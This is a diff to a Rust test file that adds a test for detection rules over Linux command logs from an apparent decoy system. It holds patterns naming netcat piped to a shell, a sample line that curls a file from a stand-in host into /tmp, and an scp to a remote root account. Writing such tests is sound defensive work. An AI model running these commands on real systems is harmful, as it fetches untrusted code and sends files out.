@@ -1,4 +1,4 @@
-//! Rules as others publish them: for web servers, and for OpenCanary.
+//! Rules as others publish them: for any log of Linux, for web servers, and for OpenCanary.
 #![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]
 
 use serde_json::json;
@@ -79,6 +79,22 @@ fn fields_of_web_server_logs() {
     {
         assert_eq!(shown(&engine("{category: webserver}", detection), "http_request", &request()), None);
     }
+}
+
+/// Rules for any log of Linux search its text; what is typed is the text that a decoy has.
+#[test]
+fn any_log_of_linux_is_the_typed_line() {
+    let typed = |text: &str| json!({ "command_text": text });
+    let rule = engine("{product: linux}", "{keywords: ['*bin/nc * | sh*', 'curl '], condition: keywords}");
+    let line = "cd /tmp; curl http://198.51.100.7/x";
+    assert_eq!(shown(&rule, "command", &typed(line)), Some(pairs(&[("command_text", "curl")])));
+    assert_eq!(shown(&rule, "command", &typed("ls /tmp")), None);
+    assert_eq!(shown(&rule, "http_request", &json!({ "method": "GET", "url": "/curl x" })), None);
+
+    let both = "{tools: ['scp ', 'rsync '], filter: ['@'], condition: tools and filter}";
+    let rule = engine("{product: linux}", both);
+    assert!(shown(&rule, "command", &typed("scp x root@198.51.100.7:/tmp")).is_some());
+    assert_eq!(shown(&rule, "command", &typed("scp x y")), None);
 }
 
 #[test]
